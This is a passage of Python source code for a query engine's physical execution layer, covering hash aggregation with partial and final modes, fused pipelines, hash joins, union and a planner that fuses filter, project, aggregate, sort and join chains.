                key=lambda i: self._sort_key(keys[i], order),
            )
        yield full.take(indices)

    @staticmethod
    def _sort_key(value: Any, order: SortOrder) -> tuple:
        if value is None:
            # The index sort is always ascending (descending inverts the
            # value keys), so null placement depends on nulls_first alone.
            return (0 if order.nulls_first else 2, 0)
        if order.ascending:
            return (1, value)
        return (1, _Reversed(value))


class _Reversed:
    """Inverts comparison for descending sort keys."""

    __slots__ = ("value",)

    def __init__(self, value: Any):
        self.value = value

    def __lt__(self, other: "_Reversed") -> bool:
        return other.value < self.value

    def __eq__(self, other: object) -> bool:
        return isinstance(other, _Reversed) and other.value == self.value


# ---------------------------------------------------------------------------
# Aggregation
# ---------------------------------------------------------------------------

AGG_MODE_COMPLETE = "complete"
AGG_MODE_PARTIAL = "partial"
AGG_MODE_FINAL = "final"


def distinct_agg_calls(outputs: tuple[Expression, ...]) -> list[AggregateCall]:
    """Distinct aggregate calls across output expressions, in walk order.

    Shared by :class:`PhysHashAggregate` and the planner's pipeline fusion
    so both derive the identical call list (and therefore identical state
    layouts) from the same logical node.
    """
    calls: list[AggregateCall] = []
    seen: set[int] = set()
    for expr in outputs:
        for node in expr.walk():
            if isinstance(node, AggregateCall) and node.expr_id not in seen:
                seen.add(node.expr_id)
                calls.append(node)
    return calls


class PhysHashAggregate(PhysicalOperator):
    """Hash aggregation with complete / partial / final modes.

    Partial mode emits ``group keys + opaque aggregate states`` (what eFGAC
    ships across the wire); final mode merges such states. Complete mode does
    both locally.
    """

    def __init__(
        self,
        child: PhysicalOperator,
        groupings: tuple[Expression, ...],
        outputs: tuple[Expression, ...],
        schema: Schema,
        mode: str = AGG_MODE_COMPLETE,
        compiler: KernelCompiler | None = None,
    ):
        super().__init__(schema, (child,))
        self._groupings = groupings
        self._outputs = outputs
        self._mode = mode
        # Distinct aggregate calls across all output expressions, in order.
        self._agg_calls: list[AggregateCall] = distinct_agg_calls(outputs)
        # One kernel computes grouping keys + aggregate inputs per batch
        # (COUNT(*) contributes a constant-True column, matching the
        # interpreted path). None when everything is a bare ref/constant.
        self._accum_kernel: CompiledKernels | None = None
        if compiler is not None and mode != AGG_MODE_FINAL:
            accum_exprs = tuple(groupings) + tuple(
                call.child if call.child is not None else Literal(True)
                for call in self._agg_calls
            )
            self._accum_kernel = compiler.compile_projection(accum_exprs)

    # -- state accumulation ------------------------------------------------------

    def _accumulate(self, ctx: ExecContext) -> dict[tuple, list[Any]]:
        groups: dict[tuple, list[Any]] = {}
        for batch in self.children[0].execute(ctx):
            if batch.num_rows == 0:
                continue
            if self._mode == AGG_MODE_FINAL:
                # Partial batches arrive laid out as [keys..., states...].
                key_cols = batch.columns[: len(self._groupings)]
                self._merge_partial_batch(batch, key_cols, groups)
            else:
                if self._accum_kernel is not None:
                    cols = self._accum_kernel.eval_all(batch, ctx.eval_ctx)
                    key_cols = cols[: len(self._groupings)]
                    value_cols = cols[len(self._groupings):]
                else:
                    key_cols = [
                        g.eval(batch, ctx.eval_ctx) for g in self._groupings
                    ]
                    value_cols = self._value_columns(batch, ctx)
                self._update_from_rows(batch, key_cols, value_cols, groups)
        if not groups and not self._groupings:
            # Global aggregate over empty input still yields one row.
            groups[()] = [call.func.create() for call in self._agg_calls]
        return groups

    def _value_columns(
        self, batch: ColumnBatch, ctx: ExecContext
    ) -> list[list[Any]]:
        """Interpreted aggregate-input columns, one per distinct call."""
        value_cols = []
        for call in self._agg_calls:
            if call.child is None:
                value_cols.append([True] * batch.num_rows)  # COUNT(*)
            else:
                value_cols.append(call.child.eval(batch, ctx.eval_ctx))
        return value_cols

    def _update_from_rows(
        self,
        batch: ColumnBatch,
        key_cols: list[list[Any]],
        value_cols: list[list[Any]],
        groups: dict[tuple, list[Any]],
    ) -> None:
        for row_idx in range(batch.num_rows):
            key = tuple(col[row_idx] for col in key_cols)
            states = groups.get(key)
            if states is None:
                states = [call.func.create() for call in self._agg_calls]
                groups[key] = states
            for j, call in enumerate(self._agg_calls):
                value = value_cols[j][row_idx]
                if value is None and call.func.ignores_nulls and call.child is not None:
                    continue
                states[j] = call.func.update(states[j], value)

    def _merge_partial_batch(
        self,
        batch: ColumnBatch,
        key_cols: list[list[Any]],
        groups: dict[tuple, list[Any]],
    ) -> None:
        import pickle

        num_keys = len(self._groupings)
        for row_idx in range(batch.num_rows):
            key = tuple(col[row_idx] for col in key_cols)
            states = groups.get(key)
            if states is None:
                states = [call.func.create() for call in self._agg_calls]
                groups[key] = states
            for j, call in enumerate(self._agg_calls):
                incoming = batch.columns[num_keys + j][row_idx]
                if isinstance(incoming, (bytes, bytearray)):
                    incoming = pickle.loads(incoming)
                states[j] = call.func.merge(states[j], incoming)

    # -- output -------------------------------------------------------------------

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        groups = self._accumulate(ctx)
        keys = list(groups.keys())
        # Emit in batch_size chunks: one monolithic result batch would defeat
        # downstream chunking and bloat shm segments on the process backend.
        step = max(1, ctx.batch_size)
        if not keys:
            chunks: list[list[tuple]] = [[]]
        else:
            chunks = [keys[i : i + step] for i in range(0, len(keys), step)]
        for chunk in chunks:
            if self._mode == AGG_MODE_PARTIAL:
                yield self._emit_partial(chunk, groups)
            else:
                yield self._emit_final(chunk, groups, ctx)

    def _emit_partial(self, keys: list[tuple], groups: dict[tuple, list[Any]]) -> ColumnBatch:
        # States are opaque to everything between partial and final — they
        # cross the eFGAC wire as pickled bytes, never as structured values.
        import pickle

        columns: list[list[Any]] = [
            [key[i] for key in keys] for i in range(len(self._groupings))
        ]
        for j in range(len(self._agg_calls)):
            columns.append(
                [pickle.dumps(groups[key][j], protocol=pickle.HIGHEST_PROTOCOL)
                 for key in keys]
            )
        return ColumnBatch(partial_agg_schema(self._groupings, self._agg_calls), columns)

    def _emit_final(
        self, keys: list[tuple], groups: dict[tuple, list[Any]], ctx: ExecContext
    ) -> ColumnBatch:
        # Intermediate batch: group keys, then finalized aggregate values.
        inter_columns: list[list[Any]] = [
            [key[i] for key in keys] for i in range(len(self._groupings))
        ]
        for j, call in enumerate(self._agg_calls):
            inter_columns.append([call.func.final(groups[key][j]) for key in keys])
        inter_schema_fields = [
            Field(g.output_name(), g.dtype or STRING) for g in self._groupings
        ] + [Field(c.output_name(), c.dtype or STRING) for c in self._agg_calls]
        inter = ColumnBatch(Schema(tuple(inter_schema_fields)), inter_columns)

        # Rewrite output expressions against the intermediate layout.
        call_position = {
            call.expr_id: len(self._groupings) + j
            for j, call in enumerate(self._agg_calls)
        }
        grouping_position = {
            g.output_name(): i for i, g in enumerate(self._groupings)
        }

        columns = []
        for expr in self._outputs:
            rebased = self._rebase_output(expr, call_position, grouping_position)
            columns.append(rebased.eval(inter, ctx.eval_ctx))
        return ColumnBatch(self.schema, columns)

    def _rebase_output(
        self,
        expr: Expression,
        call_position: dict[int, int],
        grouping_position: dict[str, int],
    ) -> Expression:
        """Replace AggregateCalls/grouped refs with refs into the inter batch."""
        # Whole-expression match against a grouping (e.g. SELECT upper(d) ... GROUP BY upper(d)).
        for i, g in enumerate(self._groupings):
            if str(expr) == str(g):
                return BoundRef(i, expr.output_name(), expr.dtype or STRING)

        # transform() rebuilds nodes bottom-up, which can replace an
        # AggregateCall instance (fresh expr_id); fall back to name lookup.
        call_position_by_name = {
            call.output_name(): len(self._groupings) + j
            for j, call in enumerate(self._agg_calls)
        }

        def rebase(node: Expression) -> Expression:
            if isinstance(node, AggregateCall):
                pos = call_position.get(node.expr_id)
                if pos is None:
                    pos = call_position_by_name[node.output_name()]
                return BoundRef(pos, node.output_name(), node.dtype or STRING)
            if isinstance(node, BoundRef):
                pos = grouping_position.get(node.name)
                if pos is not None:
                    return BoundRef(pos, node.name, node.dtype)
            return node

        rebased = expr.transform(rebase)
        for i, g in enumerate(self._groupings):
            text = str(g)

            def match_group(node: Expression, i=i, text=text) -> Expression:
                if str(node) == text:
                    return BoundRef(i, node.output_name(), node.dtype or STRING)
                return node

            rebased = rebased.transform(match_group)
        return rebased


def partial_agg_schema(
    groupings: tuple[Expression, ...], agg_calls: list[AggregateCall]
) -> Schema:
    """Schema of partial-aggregate exchange batches: keys then state blobs."""
    fields = [Field(g.output_name(), g.dtype or STRING) for g in groupings]
    fields += [Field(f"state_{j}", STRING) for j in range(len(agg_calls))]
    return Schema(tuple(fields))


class PhysFusedPipeline(PhysHashAggregate):
    """A whole scan→filter→project→aggregate chain as one generated loop.

    The planner composes every filter condition and projection in the chain
    down to the source operator's schema and compiles the result into a
    single :class:`~repro.engine.compile.CompiledPipeline`: per source batch,
    one function call filters, computes grouping keys and aggregate inputs,
    and folds rows into accumulator slots in place — no intermediate
    ``ColumnBatch`` between the fused operators, no per-group closure
    dispatch. Emission (partial blobs or finalized outputs) reuses the
    parent's machinery unchanged, so eFGAC exchange formats and output
    rewriting are byte-identical to the unfused plan.

    On the process backend the pipeline ships to workers by structural
    fingerprint (mode ``"pipeline"``); each worker accumulates its batches
    into local groups and returns a partial-aggregate batch, which the
    driver merges with the existing partial-merge path.
    """

    def __init__(
        self,
        source: PhysicalOperator,
        groupings: tuple[Expression, ...],
        outputs: tuple[Expression, ...],
        schema: Schema,
        mode: str,
        pipeline: CompiledPipeline,
    ):
        # The parent sees the *original* groupings/outputs (emission rebases
        # output expressions by name/expr_id against them); the composed
        # chain expressions live only inside the pipeline's spec.
        super().__init__(source, groupings, outputs, schema, mode=mode, compiler=None)
        self._pipeline = pipeline

    @property
    def pipeline(self) -> CompiledPipeline:
        """The compiled pipeline (tests inspect fingerprint/source)."""
        return self._pipeline

    def _accumulate(self, ctx: ExecContext) -> dict[tuple, list[Any]]:
        groups: dict[tuple, list[Any]] = {}
        pipeline = self._pipeline
        with _kernel_span(ctx, pipeline, "pipeline"):
            pooled = self._pooled_partials(ctx)
            if pooled is not None:
                key_count = len(self._groupings)
                for pbatch in pooled:
                    if pbatch.num_rows:
                        self._merge_partial_batch(
                            pbatch, pbatch.columns[:key_count], groups
                        )
            else:
                cell: list[Any] = [None, None]
                for batch in self.children[0].execute(ctx):
                    if batch.num_rows:
                        pipeline.accumulate(batch, ctx.eval_ctx, groups, cell)
        if not groups and not self._groupings:
            # Global aggregate over empty input still yields one row.
            groups[()] = [call.func.create() for call in self._agg_calls]
        return groups

    def _pooled_partials(self, ctx: ExecContext) -> Iterator[ColumnBatch] | None:
        """Process-backend accumulation: workers return partial batches.

        Workers each fold their batches into local groups and emit
        ``keys + pickled states``; the driver merges those partials in
        submission order, so group insertion order (and therefore output
        order) matches the thread backend.
        """
        if not _pool_kernel_eligible(ctx, self._pipeline):
            return None
        pschema = partial_agg_schema(self._groupings, self._agg_calls)
        source = self.children[0]
        if isinstance(source, PhysScan):
            # Fuse all the way down: scan workers run pushed filters AND the
            # whole pipeline on the same shared-memory batch.
            pooled = source.pooled_scan(
                ctx,
                fused_kernel=self._pipeline,
                fused_exprs=self._pipeline.spec,
                out_schema=pschema,
                kernel_mode="pipeline",
            )
            if pooled is not None:
                return pooled
        return _pooled_kernel_stream(
            ctx,
            source.execute(ctx),
            kmode="pipeline",
            kernel=self._pipeline,
            exprs=self._pipeline.spec,
            mode="pipeline",
            out_schema=pschema,
        )


# ---------------------------------------------------------------------------
# Joins
# ---------------------------------------------------------------------------


def split_equi_condition(
    condition: Expression | None, left_width: int
) -> tuple[list[Expression], list[Expression], Expression | None] | None:
    """Split a conjunctive join condition into left-key = right-key pairs.

    Returns ``(left_keys, right_keys, residual)`` — right keys still bound
    against combined-schema positions — or ``None`` when no equi pair
    exists. Module-level so the planner can classify a join at plan time
    (``left_width`` is known from the logical left child's schema) for
    fused key extraction.
    """
    from repro.engine.expressions import Comparison

    if condition is None:
        return None
    conjuncts: list[Expression] = []

    def flatten(e: Expression) -> None:
        if isinstance(e, BooleanOp) and e.op == "AND":
            flatten(e.children[0])
            flatten(e.children[1])
        else:
            conjuncts.append(e)

    flatten(condition)
    left_keys: list[Expression] = []
    right_keys: list[Expression] = []
    residual: list[Expression] = []
    for conj in conjuncts:
        pair = None
        if isinstance(conj, Comparison) and conj.op == "=":
            a, b = conj.children
            a_refs, b_refs = a.references(), b.references()
            if a_refs and b_refs:
                if max(a_refs) < left_width <= min(b_refs):
                    pair = (a, b)
                elif max(b_refs) < left_width <= min(a_refs):
                    pair = (b, a)
        if pair is None:
            residual.append(conj)
        else:
            left_keys.append(pair[0])
            right_keys.append(pair[1])
    if not left_keys:
        return None
    residual_expr: Expression | None = None
    for conj in residual:
        residual_expr = (
            conj if residual_expr is None else BooleanOp("AND", residual_expr, conj)
        )
    return left_keys, right_keys, residual_expr


def _probe_key_columns(
    left_key_cols: list[list[Any]],
    right_key_cols: list[list[Any]],
    n_left: int,
    n_right: int,
) -> list[tuple[int, int]]:
    """Hash-match pre-computed key columns; NULL keys never match (SQL)."""
    table: dict[tuple, list[int]] = {}
    for j in range(n_right):
        key = tuple(col[j] for col in right_key_cols)
        if any(k is None for k in key):
            continue
        table.setdefault(key, []).append(j)
    candidates: list[tuple[int, int]] = []
    for i in range(n_left):
        key = tuple(col[i] for col in left_key_cols)
        if any(k is None for k in key):
            continue
        for j in table.get(key, ()):
            candidates.append((i, j))
    return candidates


class PhysJoin(PhysicalOperator):
    """Nested-loop join with a hash fast path for conjunctive equi-joins.

    With ``pre_keys`` > 0 both children are fused pipelines whose outputs
    carry the equi-join key columns appended after the data columns (the
    planner only builds this shape for fully-equi conditions); the join
    strips the key columns off and hash-matches on them directly, so key
    expressions never re-evaluate over the materialized inputs.
    """

    def __init__(
        self,
        left: PhysicalOperator,
        right: PhysicalOperator,
        how: str,
        condition: Expression | None,
        schema: Schema,
        compiler: KernelCompiler | None = None,
        pre_keys: int = 0,
    ):
        super().__init__(schema, (left, right))
        self._how = how
        self._condition = condition
        self._compiler = compiler
        self._pre_keys = pre_keys
        # Lazily compiled (left keys, right keys) kernels: key expressions
        # depend on the left input's width, known only once batches flow.
        self._key_kernels: tuple[
            CompiledKernels | None, CompiledKernels | None
        ] | None = None

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        # Both inputs are materialized anyway, so they are safe to build
        # concurrently (forked contexts isolate metrics/UDF memo/trace).
        left, right = collect_children_parallel(ctx, self.children)
        pre_key_cols = None
        if self._pre_keys:
            k = self._pre_keys
            pre_key_cols = (left.columns[-k:], right.columns[-k:])
            left = ColumnBatch(Schema(left.schema.fields[:-k]), left.columns[:-k])
            right = ColumnBatch(
                Schema(right.schema.fields[:-k]), right.columns[:-k]
            )
        yield self._join(left, right, ctx, pre_key_cols)

    # -- core ---------------------------------------------------------------------

    def _join(
        self,
        left: ColumnBatch,
        right: ColumnBatch,
        ctx: ExecContext,
        pre_key_cols: tuple[list, list] | None = None,
    ) -> ColumnBatch:
        how = self._how
        n_left, n_right = left.num_rows, right.num_rows
        matches: list[tuple[int, int]] = []
        left_matched = [False] * n_left
        right_matched = [False] * n_right

        if how == "cross":
            matches = [(i, j) for i in range(n_left) for j in range(n_right)]
        else:
            matches = self._find_matches(
                left, right, ctx, left_matched, right_matched, pre_key_cols
            )

        if how in ("inner", "cross"):
            return self._emit_pairs(left, right, matches)
        if how == "semi":
            keep = [i for i in range(n_left) if left_matched[i]]
            return left.take(keep).rename(self.schema)
        if how == "anti":
            keep = [i for i in range(n_left) if not left_matched[i]]
            return left.take(keep).rename(self.schema)
        if how == "left":
            extra = [(i, None) for i in range(n_left) if not left_matched[i]]
            return self._emit_pairs(left, right, matches + extra)
        if how == "right":
            extra = [(None, j) for j in range(n_right) if not right_matched[j]]
            return self._emit_pairs(left, right, matches + extra)
        if how == "full":
            extra = [(i, None) for i in range(n_left) if not left_matched[i]]
            extra += [(None, j) for j in range(n_right) if not right_matched[j]]
            return self._emit_pairs(left, right, matches + extra)
        raise UnsupportedOperationError(f"join type '{how}'")

    def _find_matches(
        self,
        left: ColumnBatch,
        right: ColumnBatch,
        ctx: ExecContext,
        left_matched: list[bool],
        right_matched: list[bool],
        pre_key_cols: tuple[list, list] | None = None,
    ) -> list[tuple[int, int]]:
        if pre_key_cols is not None:
            candidates = _probe_key_columns(
                pre_key_cols[0], pre_key_cols[1], left.num_rows, right.num_rows
            )
            for i, j in candidates:
                left_matched[i] = True
                right_matched[j] = True
            return candidates
        equi = self._extract_equi_keys(left.num_columns)
        if equi is not None:
            left_keys, right_keys, residual = equi
            return self._hash_matches(
                left, right, ctx, left_keys, right_keys, residual,
                left_matched, right_matched,
            )
        return self._loop_matches(left, right, ctx, left_matched, right_matched)

    def _extract_equi_keys(
        self, left_width: int
    ) -> tuple[list[Expression], list[Expression], Expression | None] | None:
        """Split a conjunctive condition into left-key = right-key pairs."""
        return split_equi_condition(self._condition, left_width)

    def _hash_matches(
        self,
        left: ColumnBatch,
        right: ColumnBatch,
        ctx: ExecContext,
        left_keys: list[Expression],
        right_keys: list[Expression],
        residual: Expression | None,
        left_matched: list[bool],
        right_matched: list[bool],
    ) -> list[tuple[int, int]]:
        left_width = left.num_columns
        # Right-side key expressions reference combined-schema positions.
        shifted = [self._shift_refs(k, -left_width) for k in right_keys]
        if self._compiler is not None and self._key_kernels is None:
            # Compiled once per operator; None entries (e.g. bare-column
            # keys, where interpretation is already a no-copy read) keep
            # the interpreted path for that side.
            self._key_kernels = (
                self._compiler.compile_projection(tuple(left_keys)),
                self._compiler.compile_projection(tuple(shifted)),
            )
        left_kernel, right_kernel = self._key_kernels or (None, None)
        if right_kernel is not None:
            right_key_cols = right_kernel.eval_all(right, ctx.eval_ctx)
        else:
            right_key_cols = [k.eval(right, ctx.eval_ctx) for k in shifted]
        if left_kernel is not None:
            left_key_cols = left_kernel.eval_all(left, ctx.eval_ctx)
        else:
            left_key_cols = [k.eval(left, ctx.eval_ctx) for k in left_keys]
        candidates = _probe_key_columns(
            left_key_cols, right_key_cols, left.num_rows, right.num_rows
        )
        if residual is not None and candidates:
            combined = self._pairs_batch(left, right, candidates)
            mask = residual.eval(combined, ctx.eval_ctx)
            candidates = [p for p, m in zip(candidates, mask) if m]
        for i, j in candidates:
            left_matched[i] = True
            right_matched[j] = True
        return candidates

    def _loop_matches(
        self,
        left: ColumnBatch,
        right: ColumnBatch,
        ctx: ExecContext,
        left_matched: list[bool],
        right_matched: list[bool],
    ) -> list[tuple[int, int]]:
        pairs = [(i, j) for i in range(left.num_rows) for j in range(right.num_rows)]
        if not pairs:
            return []
        combined = self._pairs_batch(left, right, pairs)
        mask = self._condition.eval(combined, ctx.eval_ctx)
        matches = [p for p, m in zip(pairs, mask) if m]
        for i, j in matches:
            left_matched[i] = True
            right_matched[j] = True
        return matches

    def _pairs_batch(
        self, left: ColumnBatch, right: ColumnBatch, pairs: list[tuple[int, int]]
    ) -> ColumnBatch:
        columns = [
            [col[i] for i, _ in pairs] for col in left.columns
        ] + [
            [col[j] for _, j in pairs] for col in right.columns
        ]
        return ColumnBatch(left.schema.concat(right.schema), columns)

    def _emit_pairs(
        self,
        left: ColumnBatch,
        right: ColumnBatch,
        pairs: list[tuple[int | None, int | None]],
    ) -> ColumnBatch:
        columns = [
            [None if i is None else col[i] for i, _ in pairs] for col in left.columns
        ] + [
            [None if j is None else col[j] for _, j in pairs] for col in right.columns
        ]
        return ColumnBatch(self.schema, columns)

    @staticmethod
    def _shift_refs(expr: Expression, delta: int) -> Expression:
        def shift(node: Expression) -> Expression:
            if isinstance(node, BoundRef):
                return BoundRef(node.index + delta, node.name, node.dtype)
            return node

        return expr.transform(shift)


class PhysUnion(PhysicalOperator):
    """UNION ALL: concatenates child streams."""

    def __init__(self, children: tuple[PhysicalOperator, ...], schema: Schema):
        super().__init__(schema, children)

    def execute(self, ctx: ExecContext) -> Iterator[ColumnBatch]:
        if ctx.parallel_children and len(self.children) >= 2:
            for batch in collect_children_parallel(ctx, self.children):
                yield from chunk_batch(batch.rename(self.schema), ctx.batch_size)
            return
        for child in self.children:
            for batch in child.execute(ctx):
                yield batch.rename(self.schema)


# ---------------------------------------------------------------------------
# Planner
# ---------------------------------------------------------------------------


class PhysicalPlanner:
    """Maps an optimized logical plan to a physical operator tree.

    With a :class:`~repro.engine.compile.KernelCompiler`, expression-heavy
    operators receive compiled kernels and ``Project(Filter(x))`` shapes
    collapse into :class:`PhysFilterProject` when the compiler accepts the
    fusion. Every kernel is optional: a refused or failed compilation keeps
    the interpreted operator, so planning never fails due to compilation.

    With ``fuse_operators`` (and a compiler), the planner additionally
    detects maximal fusable chains — runs of Filter/Project stages feeding
    an aggregate, a sort, or an equi-join — and lowers each into one
    generated loop (:class:`PhysFusedPipeline`, or a key-appending fused
    projection for sort/join sinks). Chains break at any stage containing
    user code: the opaque stage plans normally (its UDFs run next to the
    sandbox, exactly as often as unfused) and fusion restarts below it, so
    a UDF splits a chain into two fused segments around the sandbox call.
    """

    def __init__(
        self,
        compiler: KernelCompiler | None = None,
        fuse_operators: bool = True,
    ):
        self._compiler = compiler
        self._fuse = fuse_operators

    def plan(self, logical: LogicalPlan) -> PhysicalOperator:
        """Recursively select a physical operator for each logical node."""
        if isinstance(logical, LocalRelation):
            return PhysLocalData(logical.schema, logical.columns)
        if isinstance(logical, Range):
            return PhysRange(logical)
        if isinstance(logical, Scan):
            return PhysScan(logical)
        if isinstance(logical, RemoteScan):
            return PhysRemoteScan(logical)
        if isinstance(logical, Filter):
            kernel = None
            if self._compiler is not None:
                kernel = self._compiler.compile_predicate(logical.condition)
            return PhysFilter(
                self.plan(logical.child), logical.condition, kernel=kernel
            )
        if isinstance(logical, Project):
            fused = self._plan_fused_filter_project(logical)
            if fused is not None:
                return fused
            kernel = None
            if self._compiler is not None:
                kernel = self._compiler.compile_projection(logical.exprs)
            return PhysProject(
                self.plan(logical.child), logical.exprs, logical.schema,
                kernel=kernel,
            )
        if isinstance(logical, Aggregate):
            fused_agg = self._plan_fused_pipeline(logical)
            if fused_agg is not None:
                return fused_agg
            return PhysHashAggregate(
                self.plan(logical.child),
                logical.groupings,
                logical.aggregates,
                logical.schema,
                mode=logical.mode,
                compiler=self._compiler,
            )
        if isinstance(logical, Join):
            fused_join = self._plan_fused_join(logical)
            if fused_join is not None:
                return fused_join
            return PhysJoin(
                self.plan(logical.left),
                self.plan(logical.right),
                logical.how,
                logical.condition,
                logical.schema,
                compiler=self._compiler,
            )
        if isinstance(logical, Sort):
            fused_sort = self._plan_fused_sort(logical)
            if fused_sort is not None:
                return fused_sort
            key_kernel = None
            if self._compiler is not None:
                key_kernel = self._compiler.compile_projection(
                    tuple(o.expr for o in logical.orders)
                )
            return PhysSort(
                self.plan(logical.child), logical.orders, key_kernel=key_kernel
            )
        if isinstance(logical, Limit):
            return PhysLimit(self.plan(logical.child), logical.limit, logical.offset)
        if isinstance(logical, Distinct):
            return PhysDistinct(self.plan(logical.child))
        if isinstance(logical, Union):
            return PhysUnion(
                tuple(self.plan(c) for c in logical.children), logical.schema
            )
        if isinstance(logical, (SecureView, SubqueryAlias)):
            # Pure metadata wrappers at execution time.
            child = self.plan(logical.children[0])
            child.schema = logical.schema
            return child
        raise UnsupportedOperationError(
            f"no physical implementation for {type(logical).__name__}"
        )

    def _plan_fused_filter_project(
        self, logical: Project
    ) -> PhysFilterProject | None:
        """Collapse ``Project(Filter(x))`` into one compiled operator.

        Only when the compiler accepts condition *and* projections — it
        refuses any user code or unknown node, which keeps sandbox fusion
        and UDF invocation counts identical to the unfused plan.
        """
        if self._compiler is None or not isinstance(logical.child, Filter):
            return None
        filter_node = logical.child
        kernel = self._compiler.compile_filter_projection(
            filter_node.condition, logical.exprs
        )
        if kernel is None:
            return None
        return PhysFilterProject(
            self.plan(filter_node.child),
            filter_node.condition,
            logical.exprs,
            logical.schema,
            kernel,
        )

    # -- whole-operator (pipeline) fusion ------------------------------------

    def _fusion_chain(
        self, node: LogicalPlan
    ) -> tuple[list[LogicalPlan], LogicalPlan]:
        """Maximal run of compilable Filter/Project stages below ``node``.

        Walks down through metadata wrappers (SecureView/SubqueryAlias keep
        column positions, so positional composition passes straight through
        them — this is what lets fusion cross the policy filters enforcement
        wraps around governed tables). Stops at the first stage containing
        user code or an unknown node: that stage is the UDF chain-break.
        Returns ``(stages top-down, boundary node)``; the boundary plans
        normally and becomes the fused pipeline's source.
        """
        stages: list[LogicalPlan] = []
        cur = node
        while True:
            if isinstance(cur, (SecureView, SubqueryAlias)):
                cur = cur.children[0]
                continue
            if isinstance(cur, Filter) and not has_opaque_nodes((cur.condition,)):
                stages.append(cur)
                cur = cur.child
                continue
            if isinstance(cur, Project) and not has_opaque_nodes(cur.exprs):
                stages.append(cur)
                cur = cur.child
                continue
            return stages, cur

    @staticmethod
    def _compose_chain(
        stages: list[LogicalPlan],
    ) -> tuple[Expression | None, list[Expression] | None]:
        """Compose a chain's stages down to the boundary's schema.

        Bottom-up: projections substitute into everything above them
        (``inline_through_projection``); filter conditions conjoin with AND,
        which preserves semantics exactly because a row survives sequential
        filters iff every condition is truthy, and all inlined expressions
        are deterministic and side-effect-free (opaque nodes were refused).
        ``out_exprs`` of ``None`` means identity (no projection in chain).
        """
        condition: Expression | None = None
        out_exprs: list[Expression] | None = None
        for stage in reversed(stages):
            if isinstance(stage, Filter):
                cond = inline_through_projection(stage.condition, out_exprs)
                condition = (
                    cond if condition is None else BooleanOp("AND", condition, cond)
                )
            else:
                out_exprs = [
                    inline_through_projection(e, out_exprs) for e in stage.exprs
                ]
        return condition, out_exprs

    def _plan_fused_pipeline(self, logical: Aggregate) -> PhysFusedPipeline | None:
        """Lower chain→aggregate into one :class:`PhysFusedPipeline`.

        Applies in complete and partial modes (final mode merges opaque
        state blobs — nothing to fuse). Even a chain-less aggregate fuses:
        inlined accumulator updates alone beat per-call closure dispatch.
        Any refusal (opaque nodes, unknown aggregate, compile failure)
        counts a fusion miss and falls back to the unfused plan.
        """
        if self._compiler is None or not self._fuse:
            return None
        if logical.mode == AGG_MODE_FINAL:
            return None
        try:
            agg_calls = distinct_agg_calls(logical.aggregates)
            raw_inputs = tuple(
                call.child if call.child is not None else Literal(True)
                for call in agg_calls
            )
            if has_opaque_nodes(tuple(logical.groupings) + raw_inputs):
                self._compiler.note_fusion(False)
                return None
            stages, boundary = self._fusion_chain(logical.child)
            condition, out_exprs = self._compose_chain(stages)
            groupings_c = tuple(
                inline_through_projection(g, out_exprs) for g in logical.groupings
            )
            inputs_c = tuple(
                inline_through_projection(e, out_exprs) for e in raw_inputs
            )
            pipeline = self._compiler.compile_pipeline(
                condition, groupings_c, agg_calls, inputs_c
            )
        except Exception:  # noqa: BLE001 - fusion is an optional fast path
            pipeline = None
        if pipeline is None:
            self._compiler.note_fusion(False)
            return None
        self._compiler.note_fusion(True)
        return PhysFusedPipeline(
            self.plan(boundary),
            logical.groupings,
            logical.aggregates,
            logical.schema,
            logical.mode,
            pipeline,
        )

    def _fused_keyed_child(
        self,
        boundary: LogicalPlan,
        data_schema: Schema,
        condition: Expression | None,
        out_exprs: list[Expression] | None,
        keys: tuple[Expression, ...],
    ) -> PhysicalOperator | None:
        """One fused operator producing ``data columns + key columns``.

        The sort/join sink shape: the chain's composed filter+projection and
        the sink's key expressions run in a single generated loop; the sink
        strips the appended key columns off the result. Returns ``None``
        when the compiler refuses (caller falls back to unfused planning).
        """
        if out_exprs is None:
            data_exprs: tuple[Expression, ...] = tuple(
                BoundRef(i, f.name, f.dtype)
                for i, f in enumerate(data_schema.fields)
            )
        else:
            data_exprs = tuple(out_exprs)
        all_exprs = data_exprs + tuple(keys)
        ext_schema = Schema(
            tuple(data_schema.fields)
            + tuple(
                Field(f"__key_{i}", k.dtype or STRING) for i, k in enumerate(keys)
            )
        )
        if condition is not None:
            kernel = self._compiler.compile_filter_projection(condition, all_exprs)
            if kernel is None:
                return None
            return PhysFilterProject(
                self.plan(boundary), condition, all_exprs, ext_schema, kernel
            )
        kernel = self._compiler.compile_projection(all_exprs)
        if kernel is None:
            return None
        return PhysProject(self.plan(boundary), all_exprs, ext_schema, kernel=kernel)

    def _plan_fused_sort(self, logical: Sort) -> PhysSort | None:
        """Fuse chain→sort-key extraction: keys computed in the chain's loop.

        Only when a non-empty fusable chain sits below the sort (otherwise
        the existing key kernel already covers key evaluation).
        """
        if self._compiler is None or not self._fuse:
            return None
        key_exprs = tuple(o.expr for o in logical.orders)
        if not key_exprs or has_opaque_nodes(key_exprs):
            return None
        stages, boundary = self._fusion_chain(logical.child)
        if not stages:
            return None
        try:
            condition, out_exprs = self._compose_chain(stages)
            keys_c = tuple(
                inline_through_projection(k, out_exprs) for k in key_exprs
            )
            fused = self._fused_keyed_child(
                boundary, logical.schema, condition, out_exprs, keys_c
            )
        except Exception:  # noqa: BLE001 - fusion is an optional fast path
            fused = None
        if fused is None:
            self._compiler.note_fusion(False)
            return None
        self._compiler.note_fusion(True)
        return PhysSort(fused, logical.orders, appended_keys=len(keys_c))

    def _plan_fused_join(self, logical: Join) -> PhysJoin | None:
        """Fuse chain→equi-join key extraction on both inputs.

        Requires a fully-equi condition (no residual — residual evaluation
        needs the combined batch) and a non-empty fusable chain on *each*
        side; both children then emit ``data + key`` columns and the join
        hash-matches the pre-computed keys directly.
        """
        if self._compiler is None or not self._fuse or logical.how == "cross":
            return None
        left_width = len(logical.left.schema.fields)
        equi = split_equi_condition(logical.condition, left_width)
        if equi is None:
            return None
        left_keys, right_keys, residual = equi
        if residual is not None:
            return None
        shifted = [PhysJoin._shift_refs(k, -left_width) for k in right_keys]
        if has_opaque_nodes(tuple(left_keys) + tuple(shifted)):
            return None
        fused_sides: list[PhysicalOperator] = []
        for side, keys in ((logical.left, left_keys), (logical.right, shifted)):
            stages, boundary = self._fusion_chain(side)
            if not stages:
                return None
            try:
                condition, out_exprs = self._compose_chain(stages)
                keys_c = tuple(
                    inline_through_projection(k, out_exprs) for k in keys
                )
                fused = self._fused_keyed_child(
